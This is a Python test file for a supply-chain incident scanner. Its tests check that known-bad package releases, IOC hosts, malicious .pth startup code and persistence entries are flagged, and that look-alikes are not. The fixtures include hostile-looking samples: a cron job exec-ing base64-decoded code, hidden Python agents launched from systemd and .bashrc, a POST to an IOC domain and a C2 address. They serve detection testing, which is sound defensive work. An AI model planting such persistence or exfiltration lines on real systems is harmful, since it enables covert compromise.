"""The per-file checks of depvet hunt: each one with a file that must trigger and a look-alike that must not."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from demo.builders import wheel_bytes

from depvet.hunt.caches import hunt_cache
from depvet.hunt.discover import FoundCache, project_venvs
from depvet.hunt.filechecks import FileChecker
from depvet.hunt.iocs import IocError, IocList, load_iocs, parse_iocs
from depvet.hunt.model import CacheKind, FindingKind, TimelineEvent
from depvet.hunt.timeline import build_timeline
from depvet.hunt.vfs import VirtualFile
from tests.payloads import payload_pth


def _file(path: str, text: str) -> VirtualFile:
    data = text.encode()
    return VirtualFile(path, len(data), None, lambda: data, path)


@pytest.fixture(scope="module")
def checker() -> FileChecker:
    return FileChecker(load_iocs(user_dir=Path("/nonexistent")), None, ("/home/u",))


def _kinds(checker: FileChecker, path: str, text: str) -> set[FindingKind]:
    return {f.kind for f in checker.check(_file(path, text), "test")}


SITE = "/home/u/app/.venv/lib/python3.11/site-packages"


def test_known_bad_metadata_and_its_benign_predecessor(checker: FileChecker) -> None:
    bad = "Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.8\n\n"
    assert _kinds(checker, f"{SITE}/litellm-1.82.8.dist-info/METADATA", bad) == {
        FindingKind.KNOWN_BAD_INSTALLED
    }
    good = bad.replace("1.82.8", "1.82.6")
    assert _kinds(checker, f"{SITE}/litellm-1.82.6.dist-info/METADATA", good) == set()


def test_start_up_code_in_a_pth_and_a_path_only_pth(checker: FileChecker) -> None:
    assert FindingKind.STARTUP_CODE in _kinds(checker, f"{SITE}/telemetry_hook.pth", payload_pth("pkg"))
    assert _kinds(checker, f"{SITE}/_editable_impl_pkg.pth", "/home/u/src/pkg/src\n") == set()
    # setuptools' own hook is told apart as scan tells it apart.
    distutils = (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    assert _kinds(checker, f"{SITE}/distutils-precedence.pth", distutils) == set()


def test_persistence_that_starts_python_payloads_and_ordinary_entries(checker: FileChecker) -> None:
    unit = "[Service]\nExecStart=/usr/bin/python3 /home/u/.config/updater/run.py\n"
    assert _kinds(checker, "/home/u/.config/systemd/user/updater.service", unit) == {FindingKind.PERSISTENCE}
    ordinary = "[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n"
    assert _kinds(checker, "/home/u/.config/systemd/user/syncthing.service", ordinary) == set()
    cron = "*/5 * * * * python3 -c \"import base64;exec(base64.b64decode('eA=='))\"\n"
    assert _kinds(checker, "/var/spool/cron/crontabs/u", cron) == {FindingKind.PERSISTENCE}
    assert _kinds(checker, "/var/spool/cron/crontabs/u", "0 3 * * * /usr/bin/backup.sh\n") == set()
    rc = "export PATH=$HOME/bin:$PATH\npython3 /tmp/.x/agent.py &\n"
    assert _kinds(checker, "/home/u/.bashrc", rc) == {FindingKind.PERSISTENCE}
    assert (
        _kinds(checker, "/home/u/.bashrc", "source ~/.venv/bin/activate\npython3 -m http.server\n") == set()
    )


def test_ioc_names_paths_hosts_and_look_alikes(checker: FileChecker) -> None:
    assert _kinds(checker, "/home/u/.config/sysmon/sysmon.py", "x = 1\n") == {FindingKind.IOC_FILE}
    assert _kinds(checker, "/home/u/.config/other/sysmon.py", "x = 1\n") == set()
    hosts = checker.iocs.in_text("requests.post('https://models.litellm.cloud/', data=d)")
    assert [h.ioc.value for h in hosts] == ["litellm.cloud"]
    assert checker.iocs.in_text("see https://docs.litellm.ai and notlitellm.cloud.example") == []
    assert [h.matched for h in checker.iocs.in_text("c2 = '83.142.209.203:8080'")] == ["83.142.209.203"]
    assert checker.iocs.in_text("version 183.142.209.2031") == []


def test_an_extra_ioc_file_is_read_and_a_bad_one_refused(tmp_path: Path) -> None:
    extra = tmp_path / "ours.toml"
    extra.write_text('[[ioc]]\ntype = "domain"\nvalue = "evil.example"\nincident = "ours"\n')
    iocs = load_iocs([extra], user_dir=tmp_path)
    assert [h.ioc.incident for h in iocs.in_text("POST https://a.evil.example/x")] == ["ours"]
    with pytest.raises(IocError, match="type 'hostname' is not one of"):
        parse_iocs('[[ioc]]\ntype = "hostname"\nvalue = "x"\n', "test")
    assert IocList([]).in_text("anything") == []


def test_caches_show_a_downloaded_bad_release_and_not_a_good_one(
    tmp_path: Path, checker: FileChecker
) -> None:
    pip = tmp_path / "pip"
    (pip / "http-v2" / "a").mkdir(parents=True)
    (pip / "http-v2" / "a" / "1.body").write_bytes(
        wheel_bytes("litellm", "1.82.8", {"litellm/__init__.py": ""})
    )
    (pip / "http-v2" / "a" / "2.body").write_bytes(
        wheel_bytes("litellm", "1.82.6", {"litellm/__init__.py": ""})
    )
    (pip / "http-v2" / "a" / "3").write_bytes(b"not a zip")
    result = hunt_cache(FoundCache(pip, CacheKind.PIP), checker, lambda p, r: None)
    assert [Path(f.path).name for f in result.findings] == ["1.body"]
    assert result.cache.entries == 2
    uv = tmp_path / "uv"
    (uv / "archive-v0" / "x1" / "litellm-1.82.7.dist-info").mkdir(parents=True)
    (uv / "archive-v0" / "x2" / "litellm-1.82.6.dist-info").mkdir(parents=True)
    poetry = tmp_path / "poetry" / "artifacts" / "ab"
    poetry.mkdir(parents=True)
    (poetry / "telnyx-4.87.1-py3-none-any.whl").write_bytes(b"")
    (poetry / "telnyx-4.87.0-py3-none-any.whl").write_bytes(b"")
    found = [
        f.release
        for cache in (FoundCache(uv, CacheKind.UV), FoundCache(tmp_path / "poetry", CacheKind.POETRY))
        for f in hunt_cache(cache, checker, lambda p, r: None).findings
    ]
    assert sorted(found) == ["litellm==1.82.7", "telnyx==4.87.1"]


def test_project_venvs_are_found_without_entering_them(tmp_path: Path) -> None:
    for venv in ("a/.venv", "b/c/venv", "d/node_modules/x/.venv"):
        (tmp_path / venv).mkdir(parents=True)
        (tmp_path / venv / "pyvenv.cfg").write_text("version = 3.11\n")
    (tmp_path / "a" / ".venv" / "inner" / ".venv").mkdir(parents=True)
    (tmp_path / "a" / ".venv" / "inner" / ".venv" / "pyvenv.cfg").write_text("x\n")
    found = sorted(
        str(e.root.relative_to(tmp_path)) for e in project_venvs([tmp_path], lambda p, r: None, known=set())
    )
    assert found == ["a/.venv", "b/c/venv"]


def test_the_timeline_places_installs_against_the_release_window() -> None:
    inside = TimelineEvent(datetime(2026, 3, 24, 11, 0, tzinfo=UTC), "installed", "litellm==1.82.8", "/x")
    after = TimelineEvent(datetime(2026, 3, 25, 9, 0, tzinfo=UTC), "installed", "litellm==1.82.7", "/y")
    unknown = TimelineEvent(datetime(2026, 5, 1, tzinfo=UTC), "installed", "somepkg==1.0", "/z")
    events = build_timeline([after, inside, unknown])
    by_path = {e.path: e for e in events if e.path}
    assert by_path["/x"].inside_window is True
    assert by_path["/y"].inside_window is False  # after the release was removed: from a cache or a mirror
    assert by_path["/z"].inside_window is None
    whats = [e.what for e in events]
    assert whats.index("release published on the index") < whats.index("installed")
    assert [e.when for e in events] == sorted(e.when for e in events)
